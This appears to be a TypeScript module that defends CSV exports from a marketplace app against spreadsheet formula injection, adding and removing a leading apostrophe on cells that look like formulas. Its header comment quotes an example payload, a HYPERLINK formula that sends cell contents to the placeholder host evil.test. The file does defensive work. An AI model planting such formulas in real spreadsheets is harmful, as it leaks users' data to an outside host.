// Spreadsheet formula injection ("CSV injection", OWASP): a cell that begins with = + - @, a tab
// or a carriage return is evaluated as a formula when the file is opened in Excel, LibreOffice or
// Google Sheets. An offer's name from a hostile import or from the marketplace,
// `=HYPERLINK("http://evil.test/?x="&A1,"Click")`, would run on the seller's machine. A text cell
// we write with such a start carries one leading `'`, the spreadsheets' own "this is text" mark;
// reading takes off exactly that `'`, so export → import gives back the text as it was.
//
// One rule for both directions, per column:
// - a number column's cell that reads as a number (-5, -0.5, 1e-7) is a number to a spreadsheet,
//   never a formula: written as it is;
// - any other cell starting with a trigger gets the `'`. So does a cell that already starts with
//   `'`s before a trigger (`'=x` is written `''=x`), or reading could not tell the seller's own
//   `'=x` from our guarded `=x`;
// - reading removes one `'` exactly where writing would have added one, so a seller's text that
//   starts with `'` not followed by a trigger (`'tis the season`) stays as it is.

/** How a column's cells are written: numbers as numbers; everything else as text. */
export type CellKind = 'number' | 'text';

const STARTS_LIKE_FORMULA = /^'*[=+\-@\t\r]/;
/** What a spreadsheet (and our number parser, decimal comma included) reads as a plain number. */
const NUMBER_TEXT = /^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$|^-?\d+,\d+$/;

function needsGuard(text: string, kind: CellKind): boolean {
  return STARTS_LIKE_FORMULA.test(text) && !(kind === 'number' && NUMBER_TEXT.test(text.trim()));
}

/** The cell as written to a CSV file. */
export function guardFormulaCell(text: string, kind: CellKind): string {
  return needsGuard(text, kind) ? `'${text}` : text;
}

/** The cell's text as read from a CSV file: the inverse of guardFormulaCell. */
export function unguardFormulaCell(cell: string, kind: CellKind): string {
  if (cell.charCodeAt(0) !== 39 /* ' */) return cell;
  const text = cell.slice(1);
  return needsGuard(text, kind) ? text : cell;
}
